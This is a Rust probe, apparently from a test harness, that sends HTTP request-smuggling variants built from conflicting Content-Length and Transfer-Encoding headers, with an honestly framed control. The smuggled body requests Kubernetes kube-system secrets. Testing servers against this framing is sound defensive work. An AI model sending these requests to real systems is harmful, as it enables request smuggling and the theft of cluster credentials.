//! `smuggles-by-length [--honest]`: posts a body that holds a second request, in a request that states its
//! length twice: one peer's body is another peer's next request. With `--honest`, the same body is sent with
//! its true length only. Defence: a request states its length exactly once.

use guests::attempt::{self, Arguments, Request};
use std::time::Duration;

/// The end of a body in chunks, and what follows it.
const BODY: &str = "0\r\n\r\nGET /api/v1/namespaces/kube-system/secrets HTTP/1.1\r\nHost: smuggled\r\n\r\n";

fn main() {
    let mut arguments = Arguments::of("smuggles-by-length [--honest]");
    let honest = arguments.flag("--honest");
    let [] = arguments.values([]);
    let length = BODY.len().to_string();
    // A server that waits for more of the body would wait forever.
    let plain = Request::to("POST", "/sink").body(BODY).within(Duration::from_secs(10));
    let framed = |length: &str| plain.clone().header("content-length", length);
    if honest {
        attempt::tell(framed(&length).reach())
    }
    let ways = [
        ("chunked and 3 bytes", framed("3").header("transfer-encoding", "chunked")),
        ("chunked and its length", framed(&length).header("transfer-encoding", "chunked")),
        (
            "chunked after its length",
            plain.clone().header("transfer-encoding", "chunked").header("content-length", &*length),
        ),
        ("two lengths", framed("3").header("content-length", &*length)),
        ("two lengths in one", framed(&format!("3, {length}"))),
    ];
    attempt::tell_each(ways.iter().map(|(way, request)| ((*way).to_owned(), request.reach())))
}
